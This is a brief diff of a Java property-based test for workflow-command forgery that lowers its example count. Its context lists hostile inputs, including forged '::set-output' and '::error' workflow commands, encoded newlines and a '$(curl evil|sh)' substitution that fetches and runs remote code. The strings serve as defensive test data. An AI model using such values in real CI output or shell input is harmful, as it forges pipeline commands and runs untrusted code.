@@ -35,7 +35,7 @@ import org.quicktheories.generators.Generate;
  * runner trims) and none holds the legacy {@code ##[} marker.
  */
 class WorkflowCommandForgeryProperties {
-  private static final int EXAMPLES = 40;
+  private static final int EXAMPLES = 25;
   private static final List<String> NASTY = List.of("\n", "\r", "\r\n", "::", "::set-output name=cadence::release",
       "\n::error title=x::forged", "\r::warning::x", "%", "%0A", "%25", "##[error]forged", "\u0000", "\u2028",
       "\u0085", "\u00a0::", "\t::", "\u00e9\u4e2d\ud83d\ude00", "\ud800", ",", ":", "'", "\"", "\\", "$(curl evil|sh)");
